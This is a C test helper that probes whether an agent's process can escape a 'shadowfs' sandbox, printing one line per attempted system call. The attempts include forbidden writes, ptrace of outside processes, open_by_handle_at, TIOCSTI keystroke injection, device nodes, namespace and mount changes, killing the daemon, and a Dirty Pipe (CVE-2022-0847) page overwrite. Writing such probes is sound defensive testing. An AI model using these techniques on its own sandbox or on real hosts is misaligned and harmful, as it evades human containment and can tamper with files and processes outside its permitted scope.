// escape-probe: the system calls an agent's process would try to get out of a shadowfs run,
// for test/escape.test.ts. Each subcommand tries, and prints one line per attempt:
// "<what>: ok" when the call succeeded, "<what>: <ERRNO name>" when it was refused. The test
// decides what counts as an escape; the probe only reports. Exit status 0 unless misused (2).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static const char* name(int err) {
  switch (err) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case EROFS: return "EROFS";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL";
    case ENOTTY: return "ENOTTY";
    case EBADF: return "EBADF";
    case ENOTDIR: return "ENOTDIR";
    case EXDEV: return "EXDEV";
    case EEXIST: return "EEXIST";
    case ECONNREFUSED: return "ECONNREFUSED";
    case ENETUNREACH: return "ENETUNREACH";
    case ESTALE: return "ESTALE";
    case EBUSY: return "EBUSY";
    case ENXIO: return "ENXIO";
    case EIO: return "EIO";
    default: return strerror(err);
  }
}

static void report(const char* what, long rc) { printf("%s: %s\n", what, rc < 0 ? name(errno) : "ok"); }

// write PATH...: append a line to each path (creating it), as an agent writing where it must not.
static int cmdWrite(int argc, char** argv) {
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) {
      long n = write(fd, "escaped\n", 8);
      close(fd);
      report(argv[i], n == 8 ? 0 : -1);
    } else
      report(argv[i], -1);
  }
  return 0;
}

// rewrite PATH...: write each file's own content back (a sysctl keeps its value if this works).
static int cmdRewrite(int argc, char** argv) {
  for (int i = 0; i < argc; ++i) {
    char buf[4096];
    int in = open(argv[i], O_RDONLY | O_CLOEXEC);
    ssize_t n = in >= 0 ? read(in, buf, sizeof buf) : -1;
    if (in >= 0) close(in);
    if (n <= 0) {
      printf("%s: unreadable\n", argv[i]);
      continue;
    }
    int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
    long rc = fd < 0 ? -1 : write(fd, buf, (size_t)n);
    if (fd >= 0) close(fd);
    report(argv[i], rc);
  }
  return 0;
}

// pipe-merge PATH: Dirty Pipe's pattern (CVE-2022-0847) on a file the process may only read:
// every buffer of a pipe is primed for merging (filled, then drained), the file's first page is
// spliced in, and bytes are written to the pipe, which on a vulnerable kernel land in the
// file's cached page. Reports "<path> page: ok" if the file then reads differently.
static int cmdPipeMerge(const char* path) {
  char before[64] = {0}, after[64] = {0};
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pread(fd, before, sizeof before, 0) <= 0) {
    printf("%s: unreadable\n", path);
    if (fd >= 0) close(fd);
    return 0;
  }
  int p[2];
  if (pipe(p) != 0) return report("pipe", -1), close(fd), 0;
  const int size = fcntl(p[1], F_GETPIPE_SZ);
  char junk[4096];
  memset(junk, 'j', sizeof junk);
  for (int left = size; left > 0; left -= (int)sizeof junk)
    if (write(p[1], junk, sizeof junk) < 0) break;
  for (int left = size; left > 0; left -= (int)sizeof junk)
    if (read(p[0], junk, sizeof junk) < 0) break;
  loff_t off = 0;
  long n = splice(fd, &off, p[1], NULL, 1, 0);
  report("splice a page of the file into the pipe", n == 1 ? 0 : -1);
  long w = write(p[1], "ESCAPED", 7);
  report("write after it into the pipe", w == 7 ? 0 : -1);
  close(p[0]);
  close(p[1]);
  close(fd);
  fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0 && pread(fd, after, sizeof after, 0) > 0 && memcmp(before, after, sizeof before) != 0)
    printf("%s page: ok\n", path);
  else
    printf("%s page: unchanged\n", path);
  if (fd >= 0) close(fd);
  return 0;
}

// fds: the descriptors this process holds (what the run inherited).
static int cmdFds(void) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) return perror("opendir"), 2;
  int self = dirfd(d);
  printf("fds:");
  for (struct dirent* e; (e = readdir(d));) {
    if (e->d_name[0] == '.' || atoi(e->d_name) == self) continue;
    char link[300], target[512];
    snprintf(link, sizeof link, "/proc/self/fd/%s", e->d_name);
    ssize_t n = readlink(link, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    printf(" %s=%s", e->d_name, target);
  }
  printf("\n");
  closedir(d);
  return 0;
}

// pids: every process this one can see; ptrace-all: PTRACE_ATTACH to each of them.
static int cmdPids(int attach) {
  DIR* d = opendir("/proc");
  if (!d) return perror("opendir"), 2;
  pid_t me = getpid();
  printf("pids:");
  for (struct dirent* e; (e = readdir(d));) {
    pid_t pid = (pid_t)atoi(e->d_name);
    if (pid > 0) printf(" %d", pid);
  }
  printf("\n");
  if (attach) {
    rewinddir(d);
    for (struct dirent* e; (e = readdir(d));) {
      pid_t pid = (pid_t)atoi(e->d_name);
      if (pid <= 0 || pid == me) continue;
      char what[64];
      snprintf(what, sizeof what, "ptrace %d", pid);
      long rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
      report(what, rc);
      if (rc == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
      }
    }
  }
  closedir(d);
  return 0;
}

// ptrace PID...: attach to given pids (the daemon's, from outside the run's PID namespace).
static int cmdPtrace(int argc, char** argv) {
  for (int i = 0; i < argc; ++i) {
    char what[64];
    snprintf(what, sizeof what, "ptrace %s", argv[i]);
    long rc = ptrace(PTRACE_ATTACH, atoi(argv[i]), 0, 0);
    report(what, rc);
    if (rc == 0) {
      waitpid(atoi(argv[i]), NULL, __WALL);
      ptrace(PTRACE_DETACH, atoi(argv[i]), 0, 0);
    }
  }
  return 0;
}

// handle-get PATH (outside the run): the file handle of PATH as "type:hex".
static int cmdHandleGet(const char* path) {
  struct {
    struct file_handle h;
    unsigned char bytes[MAX_HANDLE_SZ];
  } fh;
  fh.h.handle_bytes = MAX_HANDLE_SZ;
  int mnt;
  if (name_to_handle_at(AT_FDCWD, path, &fh.h, &mnt, 0) != 0) return perror("name_to_handle_at"), 2;
  printf("%d:", fh.h.handle_type);
  for (unsigned i = 0; i < fh.h.handle_bytes; ++i) printf("%02x", fh.h.f_handle[i]);
  printf("\n");
  return 0;
}

// handle-open MOUNTDIR TYPE:HEX: open_by_handle_at the file for writing and append a line.
static int cmdHandleOpen(const char* dir, const char* spec) {
  struct {
    struct file_handle h;
    unsigned char bytes[MAX_HANDLE_SZ];
  } fh;
  char* colon = strchr(spec, ':');
  if (!colon) return 2;
  fh.h.handle_type = atoi(spec);
  size_t len = strlen(colon + 1) / 2;
  if (len > MAX_HANDLE_SZ) return 2;
  fh.h.handle_bytes = (unsigned)len;
  for (size_t i = 0; i < len; ++i) sscanf(colon + 1 + 2 * i, "%2hhx", &fh.h.f_handle[i]);
  int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mfd < 0) return report("open mount dir", -1), 0;
  int fd = (int)open_by_handle_at(mfd, &fh.h, O_WRONLY | O_APPEND);
  report("open_by_handle_at write", fd);
  if (fd >= 0) report("write through handle", write(fd, "escaped\n", 8) == 8 ? 0 : -1);
  fd = (int)open_by_handle_at(mfd, &fh.h, O_RDONLY);
  report("open_by_handle_at read", fd);
  return 0;
}

// tiocsti: push a character into the input of the run's stdio and of its controlling terminal.
static int cmdTiocsti(void) {
  char c = 'x';
  char what[32];
  for (int fd = 0; fd < 3; ++fd) {
    snprintf(what, sizeof what, "TIOCSTI fd %d", fd);
    report(what, ioctl(fd, TIOCSTI, &c));
  }
  int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (tty < 0)
    report("open /dev/tty", -1);
  else
    report("TIOCSTI /dev/tty", ioctl(tty, TIOCSTI, &c));
  return 0;
}

// mknod PATH c|b MAJOR MINOR: make a device node, then try to open it for writing.
static int cmdMknod(const char* path, const char* kind, const char* major, const char* minor) {
  mode_t type = kind[0] == 'b' ? S_IFBLK : S_IFCHR;
  long rc = mknod(path, type | 0666, makedev(atoi(major), atoi(minor)));
  report("mknod", rc);
  if (rc == 0) {
    int fd = open(path, O_RDWR | O_CLOEXEC);
    report("open node for writing", fd);
    if (fd >= 0) close(fd);
  }
  return 0;
}

// namespaces TARGET_PID: every way to a new or another namespace, and to another root.
static int cmdNamespaces(const char* pid) {
  char p[128];
  report("unshare user", unshare(CLONE_NEWUSER));
  report("unshare mount", unshare(CLONE_NEWNS));
  report("unshare net", unshare(CLONE_NEWNET));
  report("unshare pid", unshare(CLONE_NEWPID));
  long c = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (c == 0) _exit(0);
  if (c > 0) waitpid((pid_t)c, NULL, 0);
  report("clone CLONE_NEWUSER", c);
  report("clone3", syscall(SYS_clone3, NULL, 0));
  const char* kinds[] = {"mnt", "net", "user", "pid", "cgroup", "ipc", "uts"};
  for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; ++i) {
    snprintf(p, sizeof p, "/proc/%s/ns/%s", pid, kinds[i]);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    char what[160];
    snprintf(what, sizeof what, "setns %s", kinds[i]);
    report(what, fd < 0 ? -1 : setns(fd, 0));
    if (fd >= 0) close(fd);
  }
  report("chroot", chroot("/"));
  report("pivot_root", syscall(SYS_pivot_root, ".", "."));
  report("remount / rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("mount tmpfs", mount("tmpfs", "/tmp", "tmpfs", 0, NULL));
  report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
  report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  return 0;
}

// umount PATH: uncover what lies beneath (A itself, under the shadow).
static int cmdUmount(const char* path) {
  report("umount2 detach", umount2(path, MNT_DETACH));
  report("umount2", umount2(path, 0));
  return 0;
}

// connect PORT | connect-unix PATH: reach a server outside the run.
static int cmdConnect(const char* port) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)atoi(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  report("connect", s < 0 ? -1 : connect(s, (struct sockaddr*)&a, sizeof a));
  return 0;
}

static int cmdConnectUnix(const char* path, int abstract) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a = {0};
  a.sun_family = AF_UNIX;
  strncpy(a.sun_path + (abstract ? 1 : 0), path, sizeof a.sun_path - 2);
  socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(path) + (abstract ? 1 : 0));
  long rc = s < 0 ? -1 : connect(s, (struct sockaddr*)&a, len);
  // libuv (Node) binds an abstract name padded with NULs to the whole sun_path: try that too.
  if (rc < 0 && abstract && errno == ECONNREFUSED) rc = connect(s, (struct sockaddr*)&a, sizeof a);
  report(abstract ? "connect abstract" : "connect unix", rc);
  return 0;
}

// opendev PATH...: open block devices for writing (nothing is written) and close them again.
static int cmdOpendev(int argc, char** argv) {
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_RDWR | O_CLOEXEC);
    report(argv[i], fd);
    if (fd >= 0) close(fd);
  }
  return 0;
}

// kill PID SIG: signal a process outside the run (the daemon).
static int cmdKill(const char* pid, const char* sig) { return report("kill", kill(atoi(pid), atoi(sig))), 0; }

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return 2;
  const char* c = argv[1];
  if (!strcmp(c, "write")) return cmdWrite(argc - 2, argv + 2);
  if (!strcmp(c, "rewrite")) return cmdRewrite(argc - 2, argv + 2);
  if (!strcmp(c, "fds")) return cmdFds();
  if (!strcmp(c, "pids")) return cmdPids(0);
  if (!strcmp(c, "ptrace-all")) return cmdPids(1);
  if (!strcmp(c, "ptrace")) return cmdPtrace(argc - 2, argv + 2);
  if (!strcmp(c, "handle-get") && argc == 3) return cmdHandleGet(argv[2]);
  if (!strcmp(c, "handle-open") && argc == 4) return cmdHandleOpen(argv[2], argv[3]);
  if (!strcmp(c, "tiocsti")) return cmdTiocsti();
  if (!strcmp(c, "mknod") && argc == 6) return cmdMknod(argv[2], argv[3], argv[4], argv[5]);
  if (!strcmp(c, "namespaces") && argc == 3) return cmdNamespaces(argv[2]);
  if (!strcmp(c, "umount") && argc == 3) return cmdUmount(argv[2]);
  if (!strcmp(c, "connect") && argc == 3) return cmdConnect(argv[2]);
  if (!strcmp(c, "connect-unix") && argc == 3) return cmdConnectUnix(argv[2], 0);
  if (!strcmp(c, "connect-abstract") && argc == 3) return cmdConnectUnix(argv[2], 1);
  if (!strcmp(c, "opendev")) return cmdOpendev(argc - 2, argv + 2);
  if (!strcmp(c, "kill") && argc == 4) return cmdKill(argv[2], argv[3]);
  if (!strcmp(c, "pipe-merge") && argc == 3) return cmdPipeMerge(argv[2]);
  fprintf(stderr, "escape-probe: bad usage\n");
  return 2;
}
